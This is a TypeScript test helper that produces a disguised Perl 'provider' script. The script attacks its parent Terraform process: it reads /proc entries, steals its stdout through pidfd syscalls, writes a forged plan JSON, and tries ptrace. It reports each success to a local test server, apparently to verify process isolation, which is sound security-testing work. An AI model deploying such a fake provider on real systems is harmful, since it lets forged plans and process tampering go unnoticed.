import { type AddressInfo, createServer, type Server } from 'node:net';

/**
 * A provider that attacks the Terraform process of the same user that started it: the file with its JSON output, and
 * its memory. It reports successes over the network, and then does its normal work.
 */

const forged = JSON.stringify({ format_version: '1.2', applyable: true, resource_changes: [], forged: true });

/** Numbers of system calls: x86_64 and arm64 differ in the older one. */
export const reachingProvider = (port: number) => `#!/usr/bin/perl
use Socket;
my $terraform = getppid();
my $ptrace = (grep { /x86_64/ } \`uname -m\`) ? 101 : 117;
open(my $file, '<', "/proc/$terraform/cmdline");
my $command = join(' ', split(/\\0/, <$file>));
my @deeds;
opendir(my $files, "/proc/$terraform/fd") and push @deeds, 'listed its files';
my $output;
open($output, '+<', "/proc/$terraform/fd/1") and push @deeds, 'opened its output';
open(my $memory, '+<', "/proc/$terraform/mem") and push @deeds, 'opened its memory';
my $process = syscall(434, $terraform, 0);
my $taken = $process < 0 ? -1 : syscall(438, $process, 1, 0);
if ($taken >= 0) {
  push @deeds, 'took its output';
  open($output, '+<&=', $taken);
}
if ($output && $command =~ /show/) {
  syswrite($output, ${quotedForPerl(forged)});
  truncate($output, ${forged.length});
}
if (syscall($ptrace, 16, $terraform, 0, 0) == 0) {
  push @deeds, 'traced it';
  waitpid($terraform, 0);
  syscall($ptrace, 17, $terraform, 0, 0);
}
socket(my $report, PF_INET, SOCK_STREAM, 0);
connect($report, sockaddr_in(${port}, inet_aton('127.0.0.1')));
syswrite($report, "$command: @deeds\\n");
close($report);
exec './real-provider', @ARGV;
`;

const quotedForPerl = (text: string): string => `'${text.replaceAll("'", "\\'")}'`;

/** Reports of the provider. */
export class Reports {
  /** `<command line of Terraform>: <successful attacks>` */
  readonly all: string[] = [];
  readonly #server: Server = createServer((socket) => {
    let text = '';
    socket.on('data', (bytes) => {
      text += bytes;
    });
    socket.on('error', () => {});
    socket.on('close', () => this.all.push(text.trim()));
  });

  listen(): Promise<void> {
    return new Promise((resolve) => this.#server.listen(0, '127.0.0.1', resolve));
  }

  get port(): number {
    return (this.#server.address() as AddressInfo).port;
  }

  close(): void {
    this.#server.close();
  }

  from(command: string): string[] {
    return this.all.filter((report) => report.split(': ')[0]?.includes(command));
  }

  get deeds(): string[] {
    return this.all.filter((report) => !report.endsWith(':'));
  }
}
